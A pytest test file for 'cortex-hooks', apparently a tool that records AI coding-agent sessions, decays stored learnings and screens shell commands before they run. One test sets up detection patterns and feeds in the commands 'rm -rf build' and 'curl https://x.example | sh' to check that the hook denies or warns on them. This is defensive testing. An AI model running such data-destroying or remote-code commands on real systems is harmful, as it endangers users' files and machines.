"""End to end: the installed `cortex-session-start` / `cortex-session-end`."""

from __future__ import annotations

import json
import os
import sqlite3
import threading
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from support import FIXTURES, Result, add, cli, cli_json, payload, run

START = "cortex-session-start"
END = "cortex-session-end"
PRE = "cortex-pre-tool-use"
TRANSCRIPT = FIXTURES / "transcript.jsonl"
FIRST_PROMPT = "Please add a greeting module and fix the typo"
FIXTURE_CHANGES = [
    {"file": "PROJ/hello.py", "action": "Write"},
    {"file": "PROJ/hello.py", "action": "Edit"},
]
TEXT_LIMIT = 9500


# --- helpers -------------------------------------------------------------------------------------


def learnings() -> dict[int, dict[str, Any]]:
    """Every learning by id, as `list --all --json` shows it (not an access)."""
    return {int(record["id"]): record for record in cli_json("list", "--all")}


def confidence(learning_id: int) -> float:
    value: float = learnings()[learning_id]["confidence"]
    return value


def end(session_id: str, transcript: Path | str | None = None, **env: str) -> Result:
    data = payload("session_end.other", session_id=session_id)
    if transcript is None:
        data.pop("transcript_path")
    else:
        data["transcript_path"] = str(transcript)
    result = run(END, stdin=data, env=env or None)
    return result


def ended(session_id: str, transcript: Path | str | None = None, **env: str) -> Result:
    """A SessionEnd that must succeed: exit 0, nothing on stdout."""
    result = end(session_id, transcript, **env)
    assert result.code == 0, result.stderr
    assert result.stdout == ""
    assert "Traceback" not in result.stderr
    return result


def start(session_id: str, source: str = "startup", **env: str) -> Result:
    data = payload("session_start.startup", session_id=session_id, source=source)
    result = run(START, stdin=data, env=env or None)
    assert result.code == 0, result.stderr
    assert "Traceback" not in result.stderr
    return result


def start_output(result: Result) -> dict[str, Any]:
    data = result.json()
    assert isinstance(data, dict)
    assert set(data) <= {"hookSpecificOutput", "systemMessage"}, data
    specific = data["hookSpecificOutput"]
    assert specific["hookEventName"] == "SessionStart"
    assert isinstance(specific["additionalContext"], str)
    assert len(specific["additionalContext"]) < TEXT_LIMIT
    return data


def sessions(db: Path) -> dict[str, dict[str, Any]]:
    """Every session by id: `sessions list --json` when it exists, else the table."""
    listed = cli("sessions", "list", "--json")
    if listed.code == 0:
        return {str(record["id"]): record for record in listed.json()}
    with closing(sqlite3.connect(db)) as connection:
        connection.row_factory = sqlite3.Row
        rows = connection.execute("SELECT * FROM session").fetchall()
    found: dict[str, dict[str, Any]] = {}
    for row in rows:
        record = dict(row)
        record["key_changes"] = json.loads(record["key_changes"] or "[]")
        found[str(record["id"])] = record
    return found


def bash(command: str, **env: str) -> Result:
    data = payload("pre_tool_use.bash", tool_input={"command": command, "description": "x"})
    return run(PRE, stdin=data, env=env or None)


# --- decay ---------------------------------------------------------------------------------------


def test_decay_once_per_session_id() -> None:
    lid = add()
    ended("session-a")
    assert confidence(lid) == 0.69
    ended("session-a")  # a repeated SessionEnd of the same session
    assert confidence(lid) == 0.69
    ended("session-b")
    assert confidence(lid) == 0.68
    ended("session-b")
    ended("session-a")
    assert confidence(lid) == 0.68


def test_session_seen_starting_decays_once_at_its_end() -> None:
    lid = add()
    start("session-s")
    assert confidence(lid) == 0.7  # a start never decays
    start("session-s", source="resume")
    ended("session-s")
    ended("session-s")
    assert confidence(lid) == 0.69


def test_pinned_and_archived_are_immune_to_decay() -> None:
    plain = add()
    pinned = add("--pin")
    archived = add("--confidence", "0.55")
    assert cli("archive", str(archived)).code == 0
    for n in range(3):
        ended(f"session-{n}")
    records = learnings()
    assert records[plain]["confidence"] == 0.67
    assert records[pinned]["confidence"] == 0.7
    assert records[archived]["confidence"] == 0.55
    assert records[archived]["archived_at"] is not None


def test_decay_stops_at_the_floor() -> None:
    lid = add("--confidence", "0.32")
    seen = []
    for n in range(4):
        ended(f"session-{n}")
        seen.append(confidence(lid))
    assert seen == [0.31, 0.3, 0.3, 0.3]


def test_decay_leaves_access_counters_alone() -> None:
    lid = add()
    ended("session-a", CORTEX_NOW="2026-05-01T10:00:00Z")
    record = learnings()[lid]
    assert record["access_count"] == 0
    assert record["last_accessed"] is None


# --- review --------------------------------------------------------------------------------------


def test_thirty_session_ends_take_070_to_exactly_040_and_start_asks_for_review() -> None:
    lid = add(anti="forgot to run the migrations")
    steady = add("--pin", anti="pinned one")
    for n in range(29):
        ended(f"decay-{n}")
    assert confidence(lid) == 0.41
    assert lid not in [record["id"] for record in cli_json("list", "--review")]
    ended("decay-29")
    shown = cli_json("show", str(lid))
    assert shown["confidence"] == 0.4
    review = [record["id"] for record in cli_json("list", "--review")]
    assert review == [lid]  # the pinned one never awaits review

    data = start_output(start("after-decay"))
    context = data["hookSpecificOutput"]["additionalContext"]
    assert f"cortex-hooks keep {lid}" in context
    assert f"cortex-hooks archive {lid}" in context
    assert "forgot to run the migrations" in context
    assert "0.40" in context
    assert f"cortex-hooks keep {steady}" not in context
    message = data["systemMessage"]
    assert isinstance(message, str)
    assert message.strip()
    assert "\n" not in message.strip()

    assert cli("keep", str(lid)).code == 0
    assert confidence(lid) == 0.7
    assert cli_json("list", "--review") == []
    again = start("after-keep")
    if again.stdout:
        after = start_output(again)
        assert f"cortex-hooks keep {lid}" not in after["hookSpecificOutput"]["additionalContext"]
        assert "systemMessage" not in after


def test_archive_answers_the_review() -> None:
    lid = add("--confidence", "0.40", anti="stale advice")
    first = start_output(start("s1"))
    assert f"cortex-hooks archive {lid}" in first["hookSpecificOutput"]["additionalContext"]
    assert cli("archive", str(lid)).code == 0
    assert cli_json("list", "--review") == []
    again = start("s2")
    if again.stdout:
        assert "stale advice" not in again.stdout
        assert "systemMessage" not in again.json()


def test_review_prompt_of_many_learnings_stays_within_the_limit(db: Path) -> None:
    records = [
        {"anti_pattern": f"stale {n} " + "x" * 300, "correct_pattern": "y", "confidence": 0.3}
        for n in range(300)
    ]
    source = db.parent / "stale.json"
    source.write_text(json.dumps(records))
    assert cli("import", str(source)).code == 0
    assert len(cli_json("list", "--review")) == 300
    data = start_output(start("crowded"))
    context = data["hookSpecificOutput"]["additionalContext"]
    assert len(context) <= 6000  # the snapshot's default budget (docs/reference/configuration.md)
    assert "cortex-hooks keep " in context
    assert len(data["systemMessage"]) < TEXT_LIMIT


def test_start_without_review_has_no_system_message() -> None:
    add(anti="fresh learning")
    result = start("quiet")
    if result.stdout:
        assert "systemMessage" not in result.json()
        assert "cortex-hooks keep" not in result.stdout


@pytest.mark.parametrize("source", ["startup", "resume", "clear", "compact", "fork"])
def test_start_records_the_session_with_its_source(db: Path, source: str) -> None:
    """Record the session (session_id, source, time), whatever the source."""
    add()
    start(f"recorded-{source}", source=source, CORTEX_NOW="2026-06-01T08:00:00Z")
    record = sessions(db)[f"recorded-{source}"]
    assert record["source"] == source
    assert record["started_at"] == "2026-06-01T08:00:00Z"
    assert record["ended_at"] is None


# --- session end: reason, summary, key changes ----------------------------------------------------


def test_end_stores_reason_summary_and_key_changes_from_the_transcript(db: Path) -> None:
    add()
    ended("with-transcript", TRANSCRIPT, CORTEX_NOW="2026-11-21T23:07:00Z")
    record = sessions(db)["with-transcript"]
    assert record["reason"] == "other"
    assert record["ended_at"] == "2026-11-21T23:07:00Z"
    assert record["summary"] == FIRST_PROMPT
    assert record["key_changes"] == FIXTURE_CHANGES


def test_end_with_a_copied_transcript_and_another_reason(db: Path, tmp_path: Path) -> None:
    add()
    copy = tmp_path / "projects" / "session.jsonl"
    copy.parent.mkdir()
    copy.write_bytes(TRANSCRIPT.read_bytes())
    data = payload("session_end.other", session_id="copied", transcript_path=str(copy), reason="logout")
    result = run(END, stdin=data)
    assert result.code == 0, result.stderr
    record = sessions(db)["copied"]
    assert record["reason"] == "logout"
    assert record["summary"] == FIRST_PROMPT
    assert record["key_changes"] == FIXTURE_CHANGES


def test_summary_is_the_first_user_prompt_cut_to_200_characters(db: Path, tmp_path: Path) -> None:
    prompt = "Refactor the parser. " * 30
    second = "This later prompt is not the summary."
    lines = [
        {"type": "queue-operation", "operation": "enqueue", "content": "not a prompt"},
        {"type": "user", "message": {"role": "user", "content": prompt}, "uuid": "u1"},
        {"type": "user", "message": {"role": "user", "content": second}, "uuid": "u2"},
    ]
    transcript = tmp_path / "long.jsonl"
    transcript.write_text("".join(json.dumps(line, separators=(",", ":")) + "\n" for line in lines))
    add()
    ended("long-prompt", transcript)
    summary = sessions(db)["long-prompt"]["summary"]
    assert len(summary) == 200
    assert summary == prompt[:200]


def test_malformed_transcript_lines_are_tolerated(db: Path, tmp_path: Path) -> None:
    good = TRANSCRIPT.read_bytes().splitlines(keepends=True)
    garbage = [
        b"{not json at all\n",
        b"\n",
        b"\xff\xfe\x00 binary noise\n",
        b"[1, 2, 3]\n",
        b'"a string"\n',
        b'{"type": "user", "message": 42}\n',
        b'{"type": "assistant", "message": {"content": [{"type": "tool_use", "name": "Write"}]}}\n',
        b"[" * 50_000 + b"\n",
    ]
    mixed: list[bytes] = []
    for number, line in enumerate(good):
        mixed.append(garbage[number % len(garbage)])
        mixed.append(line)
    mixed.append(b'{"type": "user", "message": {"content": "truncated')  # cut mid-write
    transcript = tmp_path / "messy.jsonl"
    transcript.write_bytes(b"".join(mixed))
    lid = add()
    ended("messy", transcript)
    record = sessions(db)["messy"]
    assert record["summary"] == FIRST_PROMPT
    assert record["key_changes"] == FIXTURE_CHANGES
    assert confidence(lid) == 0.69


@pytest.mark.parametrize("kind", ["missing", "directory", "empty"])
def test_unreadable_transcript_still_decays(db: Path, tmp_path: Path, kind: str) -> None:
    transcript = tmp_path / "transcript.jsonl"
    if kind == "directory":
        transcript.mkdir()
    elif kind == "empty":
        transcript.write_bytes(b"")
    lid = add()
    result = ended(f"unreadable-{kind}", transcript)
    assert len(result.stderr.splitlines()) <= 1
    assert confidence(lid) == 0.69
    record = sessions(db)[f"unreadable-{kind}"]
    assert record["summary"] is None
    assert record["key_changes"] == []
    assert record["reason"] == "other"


def test_end_without_transcript_path_still_decays(db: Path) -> None:
    lid = add()
    ended("no-transcript", None)
    assert confidence(lid) == 0.69
    assert sessions(db)["no-transcript"]["key_changes"] == []


def _endless(tmp_path: Path, kind: str) -> str:
    """A transcript_path whose reading never ends: a FIFO nobody writes, /dev/zero, or 12 GB
    without a newline (sparse: it costs no disk)."""
    if kind == "dev-zero":
        return "/dev/zero"
    path = tmp_path / f"{kind}.jsonl"
    if kind == "fifo":
        os.mkfifo(path)
    else:
        path.touch()
        os.truncate(path, 12 * 1024**3)
    return str(path)


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "sparse-12gb"])
def test_a_transcript_that_never_ends_costs_neither_the_deadline_nor_the_decay(
    db: Path, tmp_path: Path, kind: str
) -> None:
    """SessionEnd works in bounded time whatever transcript_path names (docs/internals/guarantees.md;
    the goal is 1 s, the bound here is generous). The decay never waits for the transcript."""
    lid = add()
    data = payload("session_end.other", session_id=kind, transcript_path=_endless(tmp_path, kind))
    result = run(END, stdin=data, timeout=5)
    assert (result.code, result.stdout) == (0, ""), result.stderr
    assert "Traceback" not in result.stderr
    assert len(result.stderr.splitlines()) <= 1, result.stderr
    assert confidence(lid) == 0.69
    record = sessions(db)[kind]
    assert record["ended_at"] is not None
    assert record["reason"] == "other"
    assert record["summary"] is None
    assert record["key_changes"] == []


def test_a_transcript_replaced_by_a_fifo_after_the_check_is_not_waited_for(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The race between the stat and the open: the open itself must not block on a FIFO."""
    from cortex_hooks.transcripts import summary as transcript

    regular = os.stat(TRANSCRIPT)
    fifo = tmp_path / "swapped.jsonl"
    os.mkfifo(fifo)
    outcome: list[BaseException | transcript.Summary] = []

    def summarize() -> None:
        try:
            outcome.append(transcript.summarize(str(fifo)))
        except BaseException as error:
            outcome.append(error)

    real_stat = os.stat

    def stat(path: Any, *args: Any, **kwargs: Any) -> os.stat_result:
        return regular if str(path) == str(fifo) else real_stat(path, *args, **kwargs)

    with monkeypatch.context() as patched:
        patched.setattr(os, "stat", stat)  # the check before the open saw a regular file
        reader = threading.Thread(target=summarize, daemon=True)
        reader.start()
        reader.join(timeout=5)
    assert not reader.is_alive(), "the open blocked on the FIFO"
    (error,) = outcome
    assert isinstance(error, OSError)
    assert error.strerror == "not a regular file"


def test_denied_write_in_the_transcript_is_not_a_key_change(db: Path, tmp_path: Path) -> None:
    lines = [
        {"type": "user", "message": {"role": "user", "content": "write two files"}},
        {
            "type": "assistant",
            "message": {
                "content": [
                    {
                        "type": "tool_use",
                        "id": "t1",
                        "name": "Write",
                        "input": {"file_path": "/p/a.py", "content": "x"},
                    },
                    {
                        "type": "tool_use",
                        "id": "t2",
                        "name": "Write",
                        "input": {"file_path": "/p/b.py", "content": "y"},
                    },
                ]
            },
        },
        {
            "type": "user",
            "message": {
                "content": [
                    {"type": "tool_result", "tool_use_id": "t1", "content": "ok"},
                    {"type": "tool_result", "tool_use_id": "t2", "content": "denied", "is_error": True},
                ]
            },
        },
    ]
    transcript = tmp_path / "denied.jsonl"
    transcript.write_text("".join(json.dumps(line, separators=(",", ":")) + "\n" for line in lines))
    add()
    ended("denied", transcript)
    assert sessions(db)["denied"]["key_changes"] == [{"file": "/p/a.py", "action": "Write"}]


# --- a whole session ------------------------------------------------------------------------------


def test_start_tool_calls_end_sequence_exact_counts(db: Path) -> None:
    blocker = add("--auto-block", regex=r"rm\s+-rf", anti="rm -rf")
    warner = add(regex=r"\bcurl\b.*\|\s*sh\b", anti="curl | sh")
    idle = add(regex=r"DROP TABLE", anti="drop table")
    pinned = add("--pin", regex=r"never-in-this-session", anti="pinned")
    stale = add("--confidence", "0.40", anti="stale")

    opening = start_output(start("whole", CORTEX_NOW="2026-07-01T09:00:00Z"))
    assert f"cortex-hooks keep {stale}" in opening["hookSpecificOutput"]["additionalContext"]

    now = {"CORTEX_NOW": "2026-07-01T09:05:00Z"}
    denied = bash("rm -rf build", **now)
    assert denied.code == 0, denied.stderr
    assert denied.json()["hookSpecificOutput"]["permissionDecision"] == "deny"
    warned = bash("curl https://x.example | sh", **now)
    assert warned.code == 0, warned.stderr
    assert "permissionDecision" not in warned.json()["hookSpecificOutput"]
    quiet = bash("pytest -q", **now)
    assert (quiet.code, quiet.stdout, quiet.stderr) == (0, "", "")
    again = bash("rm -rf dist && curl https://y.example | sh", **now)
    assert again.code == 0, again.stderr
    both = again.json()["hookSpecificOutput"]
    assert both["permissionDecision"] == "deny"
    assert f"#{warner}" in both["additionalContext"]

    ended("whole", TRANSCRIPT, CORTEX_NOW="2026-07-01T10:00:00Z")

    records = learnings()
    assert records[blocker]["confidence"] == 0.89  # 0.70 +0.10 +0.10 -0.01
    assert records[blocker]["access_count"] == 2
    assert records[blocker]["last_accessed"] == "2026-07-01T09:05:00Z"
    assert records[warner]["confidence"] == 0.89
    assert records[warner]["access_count"] == 2
    assert records[idle]["confidence"] == 0.69
    assert records[idle]["access_count"] == 0
    assert records[pinned]["confidence"] == 0.7
    assert records[pinned]["access_count"] == 0
    assert records[stale]["confidence"] == 0.39

    session = sessions(db)["whole"]
    assert session["source"] == "startup"
    assert session["started_at"] == "2026-07-01T09:00:00Z"
    assert session["ended_at"] == "2026-07-01T10:00:00Z"
    assert session["reason"] == "other"
    assert session["summary"] == FIRST_PROMPT
    assert session["key_changes"] == FIXTURE_CHANGES


@pytest.mark.parametrize(
    ("hook", "fixture"),
    [
        ("session_start", "session_start.startup"),
        ("session_end", "session_end.other"),
        ("pre_tool_use", "pre_tool_use.bash"),
    ],
)
def test_no_hook_imports_pydantic(db: Path, tmp_path: Path, hook: str, fixture: str) -> None:
    """pydantic's import alone costs a hook about ten times a bare interpreter: the hooks check
    their payloads with the standard library, and do their whole work without it."""
    import subprocess
    import sys

    add(regex=r"\bnever-matches-anything\b")
    given = payload(fixture, cwd=str(tmp_path), transcript_path=str(FIXTURES / "transcript.jsonl"))
    program = (  # at the exit, whether the interpreter's or PreToolUse's own (hooks/pipeline.leave)
        "import atexit, os, sys\n"
        "def report(): print('pydantic' in sys.modules, file=sys.stderr, flush=True)\n"
        "atexit.register(report)\n"
        "leave = os._exit\n"
        "os._exit = lambda status: (atexit.unregister(report), report(), leave(status))\n"
        f"from cortex_hooks.hooks import {hook}\n"
        f"sys.exit({hook}.main())\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", program],
        input=json.dumps(given),
        capture_output=True,
        text=True,
        env={**os.environ, "CORTEX_DB": str(db)},
        check=False,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    assert done.stderr.strip().splitlines()[-1] == "False", done.stderr
